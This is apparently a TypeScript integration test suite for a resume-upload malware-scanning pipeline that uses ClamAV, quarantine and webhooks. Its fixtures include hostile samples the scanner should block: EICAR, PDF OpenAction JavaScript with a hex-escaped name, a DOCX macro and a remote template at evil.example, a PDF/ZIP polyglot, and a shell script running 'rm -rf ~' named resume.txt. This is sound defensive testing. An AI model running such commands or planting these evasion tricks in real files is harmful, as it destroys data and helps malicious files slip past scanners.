import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { addSignature } from '../helpers/clamd.ts';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { json, register, uploadStreamed, waitForScan, type Session } from '../helpers/api.ts';
import { startWebhookReceiver, type WebhookReceiver } from '../helpers/webhook-receiver.ts';
import { EICAR, makeDocx, makePdf, pngDeclaring, PNG_1X1, rawPdf, zipOf } from '../helpers/documents.ts';
import { signPayload } from '../../src/services/webhooks/webhooks.ts';

let t: TestApp;
let admin: Session;
let receiver: WebhookReceiver;
let received: WebhookReceiver['received'];
let webhook: { id: string; secret: string };

beforeAll(async () => {
  t = await startTestApp({ env: { WEBHOOK_ALLOW_PRIVATE_TARGETS: 'true' } });
  admin = await register(t, { role: 'recruiter', orgName: 'Scanned Co' });
  receiver = await startWebhookReceiver();
  received = receiver.received;
  const { port } = receiver;
  const created = await t.fetch('/api/v1/webhooks', {
    method: 'POST',
    headers: { ...admin.headers, 'content-type': 'application/json' },
    body: JSON.stringify({ url: `http://127.0.0.1:${port}/hooks`, events: ['file.clean', 'file.infected', 'file.rejected'] }),
  });
  expect(created.status).toBe(201);
  webhook = await json(created);
});
afterAll(async () => {
  await t?.close();
  await receiver?.close();
});

async function scanned(bytes: Buffer | Uint8Array, filename: string, category = 'resume') {
  const response = await uploadStreamed(t, admin, { bytes, filename, category });
  expect(response.status, await response.clone().text()).toBe(201);
  return waitForScan(t, admin, (await json(response)).id);
}

describe('the scan pipeline with the built-in checks and a real clamd', () => {
  it.each([
    ['EICAR in a TXT resume', () => Buffer.from(`Resume\n${EICAR}\n`), 'cv.txt', 'infected', 'Vitae.Test.EICAR.UNOFFICIAL'],
    [
      'EICAR inside a DOCX',
      () => makeDocx('A resume', { extra: [{ name: 'word/media/payload.txt', bytes: EICAR }] }),
      'cv.docx',
      'infected',
      'Vitae.Test.EICAR.UNOFFICIAL',
    ],
    [
      'a PDF with JavaScript in an OpenAction',
      () => rawPdf('/OpenAction 4 0 R', '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'),
      'cv.pdf',
      'rejected',
      'pdf_javascript',
    ],
    ['a PDF hiding /JavaScript behind hex escapes', () => rawPdf('/OpenAction << /S /J#61vaScript /JS (x) >>'), 'cv.pdf', 'rejected', 'pdf_javascript'],
    ['a DOCX with a macro project', () => makeDocx('Macro', { extra: [{ name: 'word/vbaProject.bin', bytes: 'VBA' }] }), 'cv.docx', 'rejected', 'ooxml_macros'],
    [
      'a DOCX with a remote template',
      () =>
        makeDocx('Template', {
          settingsRels:
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
        }),
      'cv.docx',
      'rejected',
      'ooxml_external_template',
    ],
    [
      'a file that is both a PDF and a ZIP',
      async () => Buffer.concat([rawPdf(''), await zipOf([{ name: 'a.txt', bytes: 'x' }])]),
      'cv.pdf',
      'rejected',
      'malformed_pdf|polyglot',
    ],
    ['a shell script named resume.txt', () => Buffer.from('#!/bin/sh\nrm -rf ~\n'), 'resume.txt', 'rejected', 'executable'],
  ])('%s', async (_name, make, filename, status, reason) => {
    const file = await scanned(Buffer.from(await make()), filename);
    expect(file.status).toBe(status);
    const scan = file.scan as { signature: string | null; reason: string | null };
    expect(status === 'infected' ? scan.signature : scan.reason).toMatch(new RegExp(`^(${reason})$`));
    const download = await t.fetch(`/api/v1/files/${file.id}/download`, { headers: admin.headers });
    expect(download.status).toBe(423);
    expect((await json(download)).code).toBe('file_quarantined');
  });

  it('an image declaring 100000×100000 pixels is a rejected logo; a real one is clean', async () => {
    expect((await scanned(pngDeclaring(100_000, 100_000), 'logo.png', 'logo')).status).toBe('rejected');
    expect((await scanned(PNG_1X1, 'logo.png', 'logo')).status).toBe('clean');
  });

  it('ordinary resumes stay clean: a PDF from a PDF library and a Word-shaped DOCX with a local template and a hyperlink', async () => {
    expect((await scanned(await makePdf(['Ordinary Person', 'Engineer']), 'cv.pdf')).status).toBe('clean');
    expect((await scanned(await makeDocx('Ordinary Person\nEngineer'), 'cv.docx')).status).toBe('clean');
  });

  it('quarantines what it blocks: never served, listed for admins, deletable', async () => {
    const file = await scanned(Buffer.from(`x\n${EICAR}\n`), 'q.txt');
    const version = await t.runtime.db
      .selectFrom('file_versions')
      .select(['storage_key', 'quarantine_key'])
      .where('file_id', '=', file.id)
      .executeTakeFirstOrThrow();
    expect(version.quarantine_key).toMatch(/^quarantine\//);
    expect(await t.runtime.store.exists(version.storage_key)).toBe(false);
    expect(await t.runtime.store.exists(version.quarantine_key!)).toBe(true);
    const list = await json(await t.fetch('/api/v1/quarantine', { headers: admin.headers }));
    expect(list.items.find((item: { file_id: string }) => item.file_id === file.id)).toMatchObject({
      status: 'infected',
      signature: 'Vitae.Test.EICAR.UNOFFICIAL',
      engine: expect.stringContaining('clamav'),
    });
    expect((await t.fetch(`/api/v1/quarantine/${file.id}`, { method: 'DELETE', headers: admin.headers })).status).toBe(204);
    expect(await t.runtime.store.exists(version.quarantine_key!)).toBe(false);
    const audit = await json(await t.fetch(`/api/v1/files/${file.id}/access-log`, { headers: admin.headers }));
    const scannedEntry = audit.items.find((e: { action: string }) => e.action === 'file.scanned');
    expect(scannedEntry.details).toMatchObject({ result: 'infected', signature: 'Vitae.Test.EICAR.UNOFFICIAL' });
    expect(scannedEntry.details.engine_version).toMatch(/ClamAV/);
  });

  it('delivers signed webhooks for verdicts, and records the deliveries', async () => {
    const deliveries = async () =>
      (await json(await t.fetch(`/api/v1/webhooks/${webhook.id}/deliveries`, { headers: admin.headers }))).items as Array<{ status: string; attempts: number }>;
    await expect.poll(async () => (await deliveries()).every((d) => d.status === 'delivered') && received.length > 3, { timeout: 20_000 }).toBe(true);
    for (const delivery of received) {
      const [t1, v1] = String(delivery.headers['vitae-signature']).split(',');
      const timestamp = Number(t1!.slice(2));
      expect(Math.abs(Date.now() / 1000 - timestamp)).toBeLessThan(300);
      expect(v1!.slice(3)).toBe(signPayload(webhook.secret, timestamp, delivery.body));
    }
    const events = received.map((d) => JSON.parse(d.body).type);
    expect(events).toEqual(expect.arrayContaining(['file.clean', 'file.infected', 'file.rejected']));
    const recorded = await deliveries();
    expect(recorded.length).toBe(received.length);
    expect(recorded.every((d) => d.attempts >= 1)).toBe(true);
  });

  it('a rescan that finds a clean file infected quarantines it and notifies the organization', async () => {
    const bytes = Buffer.from(`An innocent resume ${randomUUID()}\n`);
    const file = await scanned(bytes, 'later.txt');
    expect(file.status).toBe('clean');
    // A signature update: the same stored bytes now match a signature.
    await addSignature(
      { host: inject('clamdHost'), port: inject('clamdPort'), database: inject('clamdDatabase') },
      bytes,
      `Vitae.Test.Later${Date.now()}.UNOFFICIAL`,
    );
    const member = await register(t, { role: 'candidate' });
    expect((await t.fetch(`/api/v1/files/${file.id}/rescan`, { method: 'POST', headers: member.headers })).status).toBe(404);
    expect((await t.fetch(`/api/v1/files/${file.id}/rescan`, { method: 'POST', headers: admin.headers })).status).toBe(202);
    await expect
      .poll(async () => (await json(await t.fetch(`/api/v1/files/${file.id}`, { headers: admin.headers }))).status, { timeout: 20_000 })
      .toBe('infected');
    expect((await t.fetch(`/api/v1/files/${file.id}/content`, { headers: admin.headers })).status).toBe(423);
    await expect
      .poll(() => received.some((d) => JSON.parse(d.body).type === 'file.infected' && JSON.parse(d.body).data.file_id === file.id), { timeout: 20_000 })
      .toBe(true);
    const log = await json(await t.fetch(`/api/v1/files/${file.id}/access-log`, { headers: admin.headers }));
    expect(log.items.map((e: { action: string }) => e.action)).toEqual(expect.arrayContaining(['file.rescan_requested', 'file.rescanned']));
  });

  it('readiness names the scanner', async () => {
    const ready = await json(await t.fetch('/readyz'));
    expect(ready.checks.scanner.status).toBe('ok');
  });
});

describe('when clamd is down', () => {
  it('files wait in `scanning`, are never downloadable, and become clean once it is back', async () => {
    const { startClamd } = await import('../helpers/clamd.ts');
    let clamd = await startClamd();
    const app = await startTestApp({ antivirus: false, env: { CLAMAV_HOST: clamd.host, CLAMAV_PORT: String(clamd.port), CLAMAV_TIMEOUT_MS: '2000' } });
    try {
      const session = await register(app, { role: 'candidate' });
      await clamd.stop();
      const file = await json(await uploadStreamed(app, session, { bytes: Buffer.from('Waiting for the scanner\n'), filename: 'cv.txt', category: 'resume' }));
      const ready = await app.fetch('/readyz');
      expect(ready.status).toBe(503);
      expect((await json(ready)).checks.scanner.status).toBe('down');
      // Wait for a state, not a while: the scan has been tried against the missing clamd, failed and
      // been put back to be retried.
      await expect
        .poll(
          async () => {
            const { rows } = await sql<{
              retries: number;
            }>`SELECT retry_count AS retries FROM pgboss.job WHERE name = 'file.scan' AND data->>'fileId' = ${file.id}`.execute(app.runtime.db);
            return rows[0]?.retries ?? 0;
          },
          { timeout: 60_000, interval: 200 },
        )
        .toBeGreaterThanOrEqual(1);
      const state = await json(await app.fetch(`/api/v1/files/${file.id}`, { headers: session.headers }));
      expect(['uploaded', 'scanning']).toContain(state.status);
      expect((await app.fetch(`/api/v1/files/${file.id}/content`, { headers: session.headers })).status).toBe(423);
      clamd = await startClamd({ port: clamd.port });
      await expect
        .poll(async () => (await json(await app.fetch(`/api/v1/files/${file.id}`, { headers: session.headers }))).status, { timeout: 90_000, interval: 500 })
        .toBe('clean');
      expect((await app.fetch(`/api/v1/files/${file.id}/content`, { headers: session.headers })).status).toBe(200);
    } finally {
      await app.close();
      await clamd.stop();
    }
  }, 150_000);
});
